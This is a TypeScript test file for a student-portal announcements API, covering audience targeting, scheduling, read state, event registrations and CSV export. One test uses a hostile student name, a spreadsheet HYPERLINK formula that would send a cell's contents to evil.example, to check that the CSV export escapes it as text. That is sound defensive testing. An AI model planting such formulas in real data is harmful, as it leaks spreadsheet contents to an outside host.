/**
 * Announcements on this engine: each reaches exactly its audience (everyone, a department, a
 * semester, the students of a paper), only once published and until archived; read state and
 * event registrations are per student and happen once; staff publish, students cannot; an
 * event's registrations come out as a list and as CSV.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TAdminAnnouncement, TNotificationList } from '@padanam/contract';
import { startStudentSession } from '../../database-helpers.js';
import { insertStudent } from '../../test/accounts.js';
import { callerOf, insertStaff } from '../../test/staff.js';
import { createTestApp, type TestApp } from '../../test/test-app.js';

const DAY_MS = 24 * 60 * 60 * 1000;

describe('announcements and notifications', () => {
  let now = Date.UTC(2026, 10, 25, 6, 0);
  let testApp: TestApp;
  let teacher: { id: number; token: string };
  let departments: { id: number }[];
  let paperId: number;
  const students: Record<'science' | 'arts' | 'enrolled', { id: number; token: string }> = {} as never;
  const call = callerOf(() => testApp.app);

  const notificationsOf = async (token: string) =>
    (await call('GET', '/api/notifications', token)).json() as TNotificationList;
  const titlesOf = async (token: string) => (await notificationsOf(token)).items.map((item) => item.title);

  async function publish(body: Record<string, unknown>) {
    const reply = await call('POST', '/api/admin/announcements', teacher.token, body);
    expect(reply.statusCode, reply.body).toBe(201);
    return reply.json() as TAdminAnnouncement;
  }

  beforeAll(async () => {
    testApp = await createTestApp({ seed: true, clock: () => now });
    const db = testApp.database.db;
    teacher = await insertStaff(db, 'teacher', now);
    departments = await db.selectFrom('departments').select('id').orderBy('id').limit(2).execute();
    paperId = (await db.selectFrom('papers').select('id').orderBy('id').executeTakeFirstOrThrow()).id;
    for (const [name, departmentId, semester] of [
      ['science', departments[0]!.id, 3],
      ['arts', departments[1]!.id, 5],
      ['enrolled', departments[1]!.id, 1],
    ] as const) {
      const { id } = await insertStudent(db, { name });
      await db.updateTable('users').set({ departmentId, semester }).where('id', '=', id).execute();
      students[name] = { id, token: await startStudentSession(db, id, now) };
    }
    await db
      .insertInto('enrollments')
      .values({ userId: students.enrolled.id, paperId, source: 'staff', createdAt: now })
      .execute();
  });
  afterAll(() => testApp.close());

  it('shows the demo notices to everyone, unread', async () => {
    const list = await notificationsOf(students.science.token);
    expect(list.items.length).toBeGreaterThanOrEqual(5);
    expect(list.unreadCount).toBe(list.items.length);
    expect(new Set(list.items.map((item) => item.kind))).toEqual(new Set(['exam', 'event', 'padanam']));
  });

  it('reaches exactly its audience: a department, a semester, the students of a paper', async () => {
    await publish({
      kind: 'exam',
      title: 'Science model exam',
      content: 'For the science department.',
      audience: 'department',
      departmentId: departments[0]!.id,
    });
    await publish({
      kind: 'padanam',
      title: 'Semester 5 news',
      content: 'New notes.',
      audience: 'semester',
      semester: 5,
    });
    await publish({ kind: 'padanam', title: 'For the paper', content: 'A live class.', audience: 'paper', paperId });

    expect(await titlesOf(students.science.token)).toContain('Science model exam');
    expect(await titlesOf(students.science.token)).not.toContain('Semester 5 news');
    expect(await titlesOf(students.arts.token)).toContain('Semester 5 news');
    expect(await titlesOf(students.arts.token)).not.toContain('Science model exam');
    expect(await titlesOf(students.enrolled.token)).toContain('For the paper');
    for (const other of [students.science, students.arts])
      expect(await titlesOf(other.token)).not.toContain('For the paper');
  });

  it('keeps a scheduled one hidden until its moment, and an archived one hidden from then on', async () => {
    const later = await publish({
      kind: 'padanam',
      title: 'Tomorrow',
      content: 'Scheduled.',
      audience: 'everyone',
      publishAt: now + DAY_MS,
    });
    expect(await titlesOf(students.science.token)).not.toContain('Tomorrow');
    expect((await call('POST', `/api/notifications/${later.id}/read`, students.science.token)).statusCode).toBe(404);
    now += DAY_MS + 1;
    expect(await titlesOf(students.science.token)).toContain('Tomorrow');
    const archived = await call('PATCH', `/api/admin/announcements/${later.id}`, teacher.token, { isArchived: true });
    expect(archived.json()).toMatchObject({ archivedAt: now });
    expect(await titlesOf(students.science.token)).not.toContain('Tomorrow');
  });

  it('marks read for one student only, once, and refuses a notice not meant for the caller', async () => {
    const list = await notificationsOf(students.science.token);
    const exam = list.items.find((item) => item.title === 'Science model exam')!;
    for (let time = 0; time < 2; time += 1)
      expect((await call('POST', `/api/notifications/${exam.id}/read`, students.science.token)).statusCode).toBe(204);
    const after = await notificationsOf(students.science.token);
    expect(after.items.find((item) => item.id === exam.id)!.isRead).toBe(true);
    expect(after.unreadCount).toBe(list.unreadCount - 1);
    const refused = await call('POST', `/api/notifications/${exam.id}/read`, students.arts.token);
    expect(refused.statusCode).toBe(404);
    expect(refused.json().error.code).toBe('NOT_FOUND');
  });

  it('registers a student for an event once, and refuses events without registration or already begun', async () => {
    const event = await publish({
      kind: 'event',
      title: 'Quiz night',
      content: 'Teams of two.',
      location: 'Seminar hall',
      audience: 'everyone',
      hasRegistration: true,
      eventAt: now + 2 * DAY_MS,
    });
    for (let time = 0; time < 2; time += 1) {
      const reply = await call('POST', `/api/announcements/${event.id}/registrations`, students.arts.token);
      expect(reply.statusCode, reply.body).toBe(204);
    }
    const seen = (await notificationsOf(students.arts.token)).items.find((item) => item.id === event.id)!;
    expect(seen).toMatchObject({ hasRegistration: true, isRegistered: true, isRead: true, location: 'Seminar hall' });
    const csv = await call('GET', `/api/admin/announcements/${event.id}/registrations.csv`, teacher.token);
    expect(csv.headers['content-type']).toContain('text/csv');
    const [header, ...registered] = csv.body.replace('\uFEFF', '').trimEnd().split('\r\n');
    expect(header).toBe('name,phone,email,college,registered_at');
    expect(registered).toEqual([expect.stringMatching(/^arts,"'\+91 /)]);
    // The console reads the CSV; there is no JSON list of registrations.
    const json = await call('GET', `/api/admin/announcements/${event.id}/registrations`, teacher.token);
    expect(json.statusCode).toBe(404);

    const notice = (await notificationsOf(students.arts.token)).items.find((item) => !item.hasRegistration)!;
    const none = await call('POST', `/api/announcements/${notice.id}/registrations`, students.arts.token);
    expect(none.statusCode).toBe(409);
    now += 3 * DAY_MS;
    const late = await call('POST', `/api/announcements/${event.id}/registrations`, students.science.token);
    expect(late.json().error.message).toBe('Registration has closed: the event has started.');
  });

  it('writes a name or college a spreadsheet would run as a formula as text in registrations.csv', async () => {
    const hostileName = '=HYPERLINK("https://evil.example/?leak="&C2,"Open")';
    const { id } = await insertStudent(testApp.database.db, { name: hostileName });
    await testApp.database.db.updateTable('users').set({ collegeName: '@SUM(1+1)' }).where('id', '=', id).execute();
    const token = await startStudentSession(testApp.database.db, id, now);
    const event = await publish({
      kind: 'event',
      title: 'Debate',
      content: 'Two sides.',
      location: 'Hall',
      audience: 'everyone',
      hasRegistration: true,
      eventAt: now + 2 * DAY_MS,
    });
    expect((await call('POST', `/api/announcements/${event.id}/registrations`, token)).statusCode).toBe(204);
    const csv = await call('GET', `/api/admin/announcements/${event.id}/registrations.csv`, teacher.token);
    expect(csv.statusCode).toBe(200);
    const line = csv.body.split('\r\n')[1]!;
    expect(line.startsWith(`"'=HYPERLINK(""https://evil.example/?leak=""&C2,""Open"")",`)).toBe(true);
    expect(line).toContain(`,"'@SUM(1+1)",`);
    expect(csv.body).not.toMatch(/(^|[,\n])=HYPERLINK/);
  });

  it('lets teachers publish and students not; refuses an audience without what it names', async () => {
    const student = await call('POST', '/api/admin/announcements', students.arts.token, {
      kind: 'exam',
      title: 'x',
      content: 'y',
      audience: 'everyone',
    });
    expect(student.statusCode).toBe(403);
    const missing = await call('POST', '/api/admin/announcements', teacher.token, {
      kind: 'exam',
      title: 'No department',
      content: 'y',
      audience: 'department',
    });
    expect(missing.statusCode).toBe(400);
    expect(missing.json().error.fields).toMatchObject({ departmentId: 'Choose the department this is for' });
    const notEvent = await call('POST', '/api/admin/announcements', teacher.token, {
      kind: 'exam',
      title: 'Register?',
      content: 'y',
      audience: 'everyone',
      hasRegistration: true,
    });
    expect(notEvent.json().error.fields).toMatchObject({ hasRegistration: 'Only an event takes registrations' });
    const unknown = await call('POST', '/api/admin/announcements', teacher.token, {
      kind: 'exam',
      title: 'Ghost',
      content: 'y',
      audience: 'department',
      departmentId: 2_000_000_000,
    });
    expect(unknown.statusCode).toBe(400);
    const page = (await call('GET', '/api/admin/announcements?kind=event', teacher.token)).json();
    expect(page.items.every((item: TAdminAnnouncement) => item.kind === 'event')).toBe(true);
    const audit = await testApp.database.db
      .selectFrom('auditLog')
      .select('action')
      .where('entityType', '=', 'announcement')
      .execute();
    expect(audit.map((entry) => entry.action)).toContain('announcement.publish');
  });
});
